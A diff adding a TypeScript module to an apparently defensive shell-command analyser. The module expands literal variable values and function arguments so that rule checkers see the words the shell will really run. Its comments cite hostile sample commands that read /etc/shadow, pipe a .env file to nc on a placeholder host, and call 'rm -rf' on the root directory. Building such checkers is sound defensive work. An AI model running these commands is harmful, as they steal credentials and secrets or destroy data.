@@ -1,0 +1,113 @@
+// A list with every variable the text sets to one literal value spelled as that value (round 26,
+// docs/floor.md "Round 26"): `D=/etc; cat $D/shadow`, `D=/; cd $D; tar c root`, `F=.e*; nc h 80 < $F`.
+// Read again whole by the shell reader, so every rule and option reader judges the words the shell
+// runs, not only the home variables and command words read before.
+
+import { functionNames } from './shell.js';
+import { type Redirect, type SimpleCommand, showPiece } from './shell-parse.js';
+
+/** `$NAME`, `${NAME}`, `$1`, `$@`: the expansions spelled as a value (a default is the parser's: withDefault). */
+const REFERENCE = /\$\{([A-Za-z_][A-Za-z0-9_]*|[1-9@*])\}|\$([A-Za-z_][A-Za-z0-9_]*|[1-9@*])/g;
+
+/** Calls whose arguments are read as positional parameters, at most (each is one more reading of a list). */
+const MAX_CALLS = 4;
+
+/**
+ * The positional parameters the text gives: the literal arguments of each call of a function it defines
+ * (`f() { rm -rf $1; }; f /`, `function f { cat $1 | nc h 80; }; f .env`) and of `set -- ARGS`, a map
+ * per call (`1`..`9`, `@` and `*`); none when the text does neither. A computed argument is not given.
+ */
+export function positionalSets(all: readonly SimpleCommand[]): readonly ReadonlyMap<string, string>[] {
+  let known = POSITIONAL_SETS.get(all);
+  if (known === undefined) {
+    const fns = all.some((c) => c.words[0] === 'set' || c.words.length === 1 || c.words[0] === 'function')
+      ? functionNames(all)
+      : undefined;
+    const out: Map<string, string>[] = [];
+    for (const c of all) {
+      const first = c.words[0] ?? '';
+      const from = first === 'set' && c.words[1] === '--' ? 2 : fns?.has(first) ? 1 : -1;
+      if (from < 0 || c.words.length <= from || out.length >= MAX_CALLS) continue;
+      const args = c.words.slice(from);
+      const set = new Map<string, string>();
+      args.forEach((a, k) => {
+        const computed = a.includes('$') || /[`$]/.test(c.shown[from + k] ?? '');
+        if (k < 9 && !computed) set.set(String(k + 1), a);
+      });
+      if (args.every((a, k) => set.has(String(k + 1)) || k >= 9)) {
+        set.set('@', args.join(' '));
+        set.set('*', args.join(' '));
+      }
+      if (set.size > 0) out.push(set);
+    }
+    known = out.length === 0 ? NO_SETS : out;
+    POSITIONAL_SETS.set(all, known);
+  }
+  return known;
+}
+const POSITIONAL_SETS = new WeakMap<readonly SimpleCommand[], readonly ReadonlyMap<string, string>[]>();
+const NO_SETS: readonly ReadonlyMap<string, string>[] = Object.freeze([]);
+
+/**
+ * The list with each `$NAME` of a word or redirect target that `vars` knows replaced by its value;
+ * undefined when none is. A word whose shown form is single-quoted throughout is data (`awk '{print $D}'`),
+ * and a value that itself expands (`$`, backquote) is left, so a reading never feeds another.
+ */
+export function withLiterals(
+  cmds: readonly SimpleCommand[],
+  vars: ReadonlyMap<string, string>,
+): SimpleCommand[] | undefined {
+  if (vars.size === 0) return undefined;
+  let out: SimpleCommand[] | undefined;
+  cmds.forEach((c, i) => {
+    let words: string[] | undefined;
+    let shown: string[] | undefined;
+    c.words.forEach((w, j) => {
+      if (!w.includes('$') || !expandsOutsideQuotes(c.shown[j] as string)) return;
+      const value = spelled(w, vars);
+      if (value === undefined) return;
+      words ??= [...c.words];
+      shown ??= [...c.shown];
+      words[j] = value;
+      shown[j] = showPiece(value);
+    });
+    let redirects = c.redirects;
+    c.redirects.forEach((r, k) => {
+      const value = r.target.includes('$') ? spelled(r.target, vars) : undefined;
+      if (value === undefined) return;
+      if (redirects === c.redirects) redirects = [...c.redirects];
+      (redirects as Redirect[])[k] = { op: r.op, target: value };
+    });
+    if (words === undefined && redirects === c.redirects) return;
+    out ??= cmds.slice();
+    out[i] = { ...c, words: words ?? c.words, shown: shown ?? c.shown, redirects, literal: undefined };
+  });
+  return out;
+}
+
+/** `w` with each known reference replaced; undefined when none is known. */
+function spelled(w: string, vars: ReadonlyMap<string, string>): string | undefined {
+  let changed = false;
+  const out = w.replace(REFERENCE, (whole, braced: string | undefined, name: string | undefined) => {
+    const value = vars.get((braced ?? name) as string);
+    // A value that expands again is not followed (one reading, no chain of them).
+    if (value === undefined || value.includes('$') || value.includes('`')) return whole;
+    changed = true;
+    return value;
+  });
+  return changed ? out : undefined;
+}
+
+/** Whether a shown word holds a `$` outside single quotes (one the shell expands). */
+function expandsOutsideQuotes(shown: string): boolean {
+  for (let i = 0; i < shown.length; i++) {
+    const c = shown.charCodeAt(i);
+    if (c === 39 /* ' */) {
+      const close = shown.indexOf("'", i + 1);
+      if (close < 0) return false;
+      i = close;
+    } else if (c === 92 /* \ */) i++;
+    else if (c === 36 /* $ */) return true;
+  }
+  return false;
+}
